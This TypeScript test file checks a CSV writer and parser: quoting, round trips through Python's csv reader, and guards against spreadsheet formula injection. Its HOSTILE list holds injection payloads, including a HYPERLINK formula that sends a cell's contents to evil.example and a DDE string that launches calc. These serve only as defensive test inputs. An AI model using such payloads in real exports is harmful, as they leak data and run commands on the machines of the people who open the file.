import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { CsvError, csvField, parseCsv, recordsToCsv, toCsv, type CsvValue } from './csv.ts';

/** Python's csv module reading `text`: rows of strings. */
function pythonRows(text: string): string[][] {
  const script = 'import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))';
  const r = spawnSync('/usr/bin/python3', ['-c', script], { input: text, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`python csv reader failed: ${r.stderr}`);
  return JSON.parse(r.stdout) as string[][];
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '@SUM(A1:A9)', '+1', "-cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '=1+1'];

test('csvField: RFC 4180 quoting of commas, quotes and line breaks; empty for null/undefined', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField('cr\rhere'), '"cr\rhere"');
  assert.equal(csvField(''), '');
  assert.equal(csvField(undefined), '');
  assert.equal(csvField(null), '');
  assert.equal(csvField(true), 'true');
});

test('csvField: text starting with = + - @ tab or CR gets a leading quote; numbers never do', () => {
  assert.equal(csvField('=HYPERLINK("x")'), `"'=HYPERLINK(""x"")"`);
  assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(csvField('+1'), "'+1");
  assert.equal(csvField('-cmd'), "'-cmd");
  assert.equal(csvField('\tx'), "'\tx");
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  // the guard looks at the first character only
  assert.equal(csvField('a=b'), 'a=b');
  assert.equal(csvField('case-1'), 'case-1');
  for (const n of [-1, -0.25, -1e-7, -123456.5, 0, 3.5]) assert.equal(csvField(n), String(n));
  assert.equal(csvField(Number.NEGATIVE_INFINITY), '-Infinity');
  assert.equal(csvField(Number.POSITIVE_INFINITY), 'Infinity');
  assert.equal(csvField(Number.NaN), 'NaN');
});

test('recordsToCsv: union of keys in first-seen order, missing keys empty', () => {
  const csv = recordsToCsv([
    { case: 'a', dice: 0.5 },
    { case: 'b', hd95: 2, dice: 0.25 },
  ]);
  assert.equal(csv, 'case,dice,hd95\na,0.5,\nb,0.25,2\n');
  assert.equal(recordsToCsv([{ a: 1, b: 2 }], ['b']), 'b\n2\n');
});

test('toCsv: a row of the wrong width is a CsvError', () => {
  assert.throws(
    () => toCsv(['a', 'b'], [[1]]),
    (e: unknown) => e instanceof CsvError && e.code === 'RAGGED_ROW',
  );
});

test('round trip through Python csv and parseCsv: hostile ids neutralised, numbers stay numbers', () => {
  const records: Record<string, CsvValue>[] = [];
  HOSTILE.forEach((id, i) =>
    records.push({
      model: `m,${i}`,
      case: id,
      label: i % 2 ? '-cmd' : 1,
      dice: -0.5 * i - 0.25,
      hd95: i === 3 ? Number.POSITIVE_INFINITY : i === 4 ? Number.NEGATIVE_INFINITY : 1.25,
      note: 'line1\r\nline2 "quoted"',
    }),
  );
  records.push({ model: 'plain', case: 'c_01', label: 2, dice: Number.NaN, hd95: 1e-7 });
  const text = recordsToCsv(records);
  const py = pythonRows(text);
  assert.deepEqual(parseCsv(text), py, 'parseCsv reads what Python reads');
  const [header, ...rows] = py;
  assert.deepEqual(header, ['model', 'case', 'label', 'dice', 'hd95', 'note']);
  assert.equal(rows.length, records.length);
  rows.forEach((r, i) => {
    const rec = records[i]!;
    assert.equal(r[0], rec.model, 'text without a formula start is unchanged');
    const id = String(rec.case);
    assert.equal(r[1], /^[=+\-@\t\r]/.test(id) ? `'${id}` : id);
    // no field a spreadsheet would run as a formula
    for (const f of [r[0]!, r[1]!, r[5] ?? '']) assert.ok(!/^[=+@\t\r]/.test(f) && !/^-[^\d.I]/.test(f), `unguarded field ${JSON.stringify(f)}`);
    assert.equal(r[2], typeof rec.label === 'string' ? `'${rec.label}` : String(rec.label));
    // numbers, negative and non-finite included, come back as the same numbers
    assert.ok(Object.is(Number(r[3]), rec.dice) || (Number.isNaN(Number(r[3])) && Number.isNaN(rec.dice as number)), `dice ${r[3]}`);
    assert.equal(Number(r[4]), rec.hd95);
    assert.equal(r[5], rec.note ?? '');
  });
  // Python's float() reads every number field, -Infinity and NaN included
  const check = spawnSync(
    '/usr/bin/python3',
    [
      '-c',
      'import csv, io, sys\nrows = list(csv.DictReader(io.StringIO(sys.stdin.read(), newline="")))\nprint(",".join(repr(float(r["dice"])) for r in rows))',
    ],
    { input: text, encoding: 'utf8' },
  );
  assert.equal(check.status, 0, check.stderr);
  const pyDice = check.stdout
    .trim()
    .split(',')
    .map((v) => (v === 'nan' ? Number.NaN : Number(v)));
  assert.deepEqual(
    pyDice,
    records.map((r) => r.dice),
  );
});

test('parseCsv: BOM, CRLF, blank lines and quoted line breaks; errors name the line', () => {
  assert.deepEqual(parseCsv('\ufeffa,b\r\n1,"x\r\ny"\r\n\r\n2,3\r\n'), [
    ['a', 'b'],
    ['1', 'x\r\ny'],
    ['2', '3'],
  ]);
  assert.deepEqual(parseCsv(''), []);
  assert.throws(
    () => parseCsv('a,b\n"1\n2",3\n4\n'),
    (e: unknown) => e instanceof CsvError && e.code === 'RAGGED_ROW' && e.line === 4 && /line 4 has 1 fields/.test(e.message),
  );
  assert.throws(
    () => parseCsv('a,b\n1,"open\n'),
    (e: unknown) => e instanceof CsvError && e.code === 'UNTERMINATED_QUOTE' && e.line === 2,
  );
});
